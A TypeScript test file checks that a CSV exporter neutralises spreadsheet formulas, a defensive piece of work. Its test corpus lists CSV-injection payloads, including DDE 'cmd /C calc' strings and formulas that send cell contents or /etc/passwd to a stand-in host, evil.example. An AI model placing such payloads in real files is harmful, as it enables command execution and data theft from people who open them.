// CSV that any program reads, and in which no spreadsheet finds a formula.

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../worker/flows/visitors/csv.ts';
import { parseCsv } from '../../support/checks/csv.ts';

const roundTrip = (cell: string) => parseCsv(csvOf(['a', 'b'], [[cell, 1]]).slice(1))[1]?.[0] as string;

/** From OWASP's page on CSV injection, PayloadsAllTheThings (CSV Injection), and reports on HackerOne. */
const corpus = [
  '=1+1',
  '=SUM(1+1)*cmd|" /C calc"!A0',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C ping -t 172.0.0.1 -l 25152'!'A1'",
  'DDE ("cmd";"/C calc";"!A0")A0;=cmd|\' /C calc\'!A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "=10+20+cmd|' /C calc'!A0",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "=         C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
  '=HYPERLINK("http://evil.example/?x="&A1&A2,"Error: please click me for further information")',
  '=IMPORTXML(CONCAT("http://evil.example/", CONCATENATE(A2:E2)), "//a/a10")',
  '=IMPORTFEED(CONCAT("http://evil.example/123.txt?v=", CONCATENATE(A2:E2)))',
  '=IMPORTHTML (CONCAT("http://evil.example/123.txt?v=", CONCATENATE(A2:E2)),"table",1)',
  '=IMPORTRANGE("https://docs.google.com/spreadsheets/d/x", "sheet1!A2:E2")',
  '=IMAGE("https://evil.example/images/srpr/logo3w.png")',
  '=WEBSERVICE(CONCATENATE("http://evil.example/",(\'file:///etc/passwd\'#$passwd.A1)))',
  "='file:///etc/passwd'#$passwd.A1",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tcmd',
  '\rcmd',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '﹦1+1',
  '−1+1',
  '"=1+1',
  ';=1+1',
  'Ann;=1+1',
  'Ann\t=1+1',
  'Ann\n=1+1',
  'Ann\r\n@SUM(1)',
  'Ann; \t-1+1',
];

describe('a CSV file', () => {
  it.each(corpus)('lets no spreadsheet find a formula in %j', (text) => {
    const cell = roundTrip(text);
    // However the file is cut into cells: by commas as it should be, or by semicolons and tabs, as Excel does in other languages.
    for (const part of cell.split(/[;\t\r\n]/)) {
      expect(part.replace(/^[\s\p{Cc}\p{Cf}]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠﹦﹢﹣﹫−]/);
    }
    expect(cell).not.toMatch(/^[\t\r\n]/);
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
  });

  it.each([
    'Ann',
    "O'Neill",
    'ann+news@acme.example',
    'Jean-Luc',
    'Müller & Söhne; Partner',
    'a = b',
    '49-30-1234',
    '"The" Company, Inc.',
    'two\nlines',
    '株式会社',
    '',
  ])('leaves %j as it is', (text) => {
    expect(roundTrip(text)).toBe(text);
  });

  it('keeps numbers numbers, negative ones as well', () => {
    expect(csvOf(['change', 'yes', 'none'], [[-5.25, true, null]])).toBe(
      '\uFEFFchange,yes,none\r\n-5.25,true,\r\n',
    );
  });

  it('is read back as it was written, but for the quotes before formulas', () => {
    const text = fc.string({ unit: fc.constantFrom(...'ab ",;\'\r\n\t=-@+＝ü') });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1 }), (rows) => {
        const [header, ...read] = parseCsv(csvOf(['x', 'y'], rows).slice(1));
        expect(header).toEqual(['x', 'y']);
        expect(read.map((row) => row.map((cell) => cell.replaceAll("'", '')))).toEqual(
          rows.map((row) => row.map((cell) => cell.replaceAll("'", ''))),
        );
      }),
    );
  });
});
